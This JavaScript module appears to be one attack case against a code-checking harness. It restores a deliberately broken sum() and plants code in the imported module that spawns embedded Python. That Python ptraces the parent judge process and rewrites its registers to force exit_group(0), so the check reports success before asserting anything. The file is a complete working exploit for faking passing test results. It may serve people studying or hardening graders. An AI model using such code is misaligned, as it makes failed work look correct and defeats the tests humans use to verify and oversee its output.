// Runs like Case, then puts the subtracting sum() back behind code that runs when the check's
// child process imports it: the judge (the check's own Node, its parent) has the same uid and no
// more capabilities, so the child may ptrace it. Stopped in epoll_pwait, its registers are set to
// make one more system call, exit_group(0), and the check exits 0 before it can assert.
import { existsSync } from 'node:fs';
import { unfixBehind } from './lib.mjs';

const python = ['/usr/bin/python3', '/usr/local/bin/python3', '/bin/python3'].find((p) => existsSync(p));
const inject = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
if libc.ptrace(16, pid, None, None) != 0: sys.exit(1)
os.waitpid(pid, 0)
regs = (ctypes.c_ulong * 27)()
libc.ptrace(12, pid, None, ctypes.byref(regs))
regs[10] = 231; regs[14] = 0; regs[16] -= 2; regs[15] = (1 << 64) - 1
libc.ptrace(13, pid, None, ctypes.byref(regs))
libc.ptrace(17, pid, None, None)
`;
const unfixed = `import { spawnSync } from 'node:child_process';
spawnSync(${JSON.stringify(python ?? 'python3')}, ['-c', ${JSON.stringify(inject)}, String(process.ppid)], { stdio: 'ignore' });
await new Promise((resolve) => setTimeout(resolve, 5000));
`;

await unfixBehind(unfixed);
